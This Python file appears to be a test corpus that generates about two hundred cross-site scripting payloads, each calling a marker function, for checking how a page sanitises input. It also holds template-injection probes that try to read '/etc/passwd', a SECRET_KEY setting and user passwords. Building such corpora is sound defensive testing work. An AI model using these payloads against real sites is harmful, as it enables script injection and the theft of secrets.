"""About two hundred ways to make a page run a script, each of which calls `__x(its number)`.

CALL stands for the call. Most are a way out of some place of a page (an attribute, a text area, a
script) followed by a way to run; the others are of one piece. None is longer than a theme's name.
"""

from html import escape
from urllib.parse import quote


CALL = "CALL"

WAYS_OUT = ["", '">', "'>", "</textarea>", "</title>", "</script>", "</option></select>", "-->"]
WAYS_TO_RUN = [
    "<script>CALL</script>",
    "<img src=x onerror=CALL>",
    "<svg onload=CALL>",
    "<details open ontoggle=CALL>",
    "<input autofocus onfocus=CALL>",
    "<video><source onerror=CALL></video>",
    '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
    "<math><mtext><style><img src=x onerror=CALL>",
    "<style onload=CALL>b{}</style>",
    '<audio src="x" onerror="CALL"></audio>',
    "<body onpageshow=CALL>",
]
ATTRIBUTES = [
    '" onfocus=CALL autofocus x="',
    "' onfocus=CALL autofocus x='",
    " onfocus=CALL autofocus ",
    '" onmouseover="CALL" style="position:fixed;inset:0" x="',
    '"onanimationstart="CALL"style="animation:x 1s"x="',
    "` onerror=CALL ",
    '"/onload=CALL/x="',
    '" accesskey="x" onclick="CALL" x="',
    '" formaction="javascript:CALL" x="',
    '" style="background:url(javascript:CALL)" x="',
    '"\nonfocus\n=\nCALL\nautofocus\nx="',
]
ADDRESSES = [
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    "java\tscript:CALL",
    "javascript&colon;CALL",
    "&#106;avascript:CALL",
    "javascript://%0aCALL",
    "data:text/html,<script>parent.CALL</script>",
    "//example.org/%2e%2e/CALL",
    "vbscript:CALL",
]
LINKS = [
    '<a href="{}" autofocus>press</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button autofocus>go',
]
SCRIPTS = [
    "';CALL;//",
    '";CALL;//',
    "\\';CALL;//",
    "`${CALL}`",
    "-CALL-",
    "*/CALL/*",
    "\u2028CALL//",
    "]});CALL;({a:[",
    "</script\n><script>CALL</script\n>",
    "<!--<script>CALL</script>",
    "__proto__[CALL]",
]
TEMPLATES = [
    "{{7*7}}{{CALL}}",
    "{{constructor.constructor('CALL')()}}",
    "{% debug %}{{settings.SECRET_KEY}}CALL",
    "{% include '/etc/passwd' %}CALL",
    "{{request.user.password|safe}}CALL",
    "{% endblocktranslate %}<script>CALL</script>",
    "%(name)s%(0)n{0.__class__}CALL",
    "${7*7}${CALL}",
    "#{7*7}#{CALL}",
    "<%= CALL %>",
    "[[${CALL}]]",
    "*{CALL}",
    "@(CALL)",
    "{{7*'7'}}{#CALL#}",
    "${{<%[%'\"}}%\\CALL",
]
ODD_TAGS = [
    "<ScRiPt>CALL</sCrIpT>",
    "<scr<script>ipt>CALL</scr</script>ipt>",
    "<script/x>CALL</script>",
    "<script src=data:text/javascript,CALL></script>",
    "<script type=module>CALL</script>",
    "<script>/*<!--*/CALL//--></script>",
    "<img/src=x/onerror=CALL//",
    "<img src=x onerror=CALL//>",
    "<img \t src=x\nonerror\n=\nCALL>",
    "<<img src=x onerror=CALL>",
    '<img src="x` `<script>CALL</script>"` `>',
    "<object data=javascript:CALL></object>",
    "<embed src=javascript:CALL>",
    "<base href=javascript:CALL//>",
    "<link rel=stylesheet href=/static/css/none.css onerror=CALL>",
    "<marquee onstart=CALL>x</marquee>",
    "<select autofocus onfocus=CALL>",
    "<p style=animation:x onanimationstart=CALL>x",
    "<div contenteditable autofocus onfocus=CALL>x</div>",
    "<button popovertarget=p autofocus onfocus=CALL>x",
    "<xss tabindex=1 autofocus onfocus=CALL>x</xss>",
    '<meta http-equiv=refresh content="0;url=javascript:CALL">',
    '<meta http-equiv=refresh content="0;url=/privacy/?CALL">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">CALL',
    "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "<template><script>CALL</script></template>",
    "<!--><img src=x onerror=CALL>-->",
    "<![CDATA[<img src=x onerror=CALL>]]>",
    "<?xml version='1.0'?><x onload=CALL/>",
    "<!DOCTYPE x [<!ENTITY e 'CALL'>]><x>&e;</x>",
]
FOREIGN = [
    "<svg><script>CALL</script></svg>",
    "<svg><script href=data:text/javascript,CALL /></svg>",
    "<svg><script>&#95;_x</script><script>CALL</script>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><set onbegin=CALL attributeName=x>",
    "<svg><a href=javascript:CALL><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=CALL/>#x'>",
    "<svg><foreignObject><img src=x onerror=CALL></foreignObject>",
    "<svg><style><img src=x onerror=CALL></style>",
    "<svg><title><style><img title='</style><img src=x onerror=CALL>'>",
    "<math href=javascript:CALL>x</math>",
    "<math><mi><table><mglyph><style><!--</style><img title='--><img src=x onerror=CALL>'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=CALL>",
]
STYLES = [
    "<style>@import 'javascript:CALL'</style>",
    "<style>*{background:url(//example.org/CALL)}</style>",
    "<div style=width:expression(CALL)>",
    "</style><img src=x onerror=CALL>",
    "x;background:url(javascript:CALL)",
]
POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(CALL)//</stYle/</titLe/</teXtarEa/--!><sVg/oNloAd=CALL//>",
    "'\"--></style></script><svg onload=CALL>",
    "\"'><img src=x onerror=CALL>{{7*7}}",
    "--><!-- --!><svg onload=CALL>",
    "</title></textarea></noscript></style><img src=x onerror=CALL>",
    "\\u003cimg src=x onerror=CALL\\u003e",
    "\\x3cscript\\x3eCALL\\x3c/script\\x3e",
    "+ADw-script+AD4-CALL+ADw-/script+AD4-",
    "\uff1cscript\uff1eCALL\uff1c/script\uff1e",
    "\u02bascript\u203aCALL",
    "\u202e<script>CALL</script>",
    "\u200b<img\u00a0src=x onerror=CALL>",
    "<img src=x onerror=\\u005f\\u005fCALL>",
    "%253Cscript%253ECALL%253C/script%253E",
]


def encodings_of(payload):
    """Return a payload as it looks when something on the way has encoded it once already."""
    return [
        escape(payload),
        "".join(f"&#{ord(each)};" if each in "<>\"'" else each for each in payload),
        quote(payload, safe="=()_"),
        payload.replace("<", "\\u003c").replace(">", "\\u003e"),
        payload.replace("<", "\\x3c").replace(">", "\\x3e"),
    ]


def every_template():
    yield from (out + run for run in WAYS_TO_RUN for out in WAYS_OUT)
    yield from (link.format(address) for link in LINKS for address in ADDRESSES[:6])
    yield from (each for payload in WAYS_TO_RUN[:3] for each in encodings_of(payload))
    yield from [*ADDRESSES, *ATTRIBUTES, *SCRIPTS, *TEMPLATES, *ODD_TAGS, *FOREIGN, *STYLES]
    yield from POLYGLOTS


PAYLOADS = [
    template.replace(CALL, f"__x({number})")
    for number, template in enumerate(dict.fromkeys(every_template()), start=1)
]
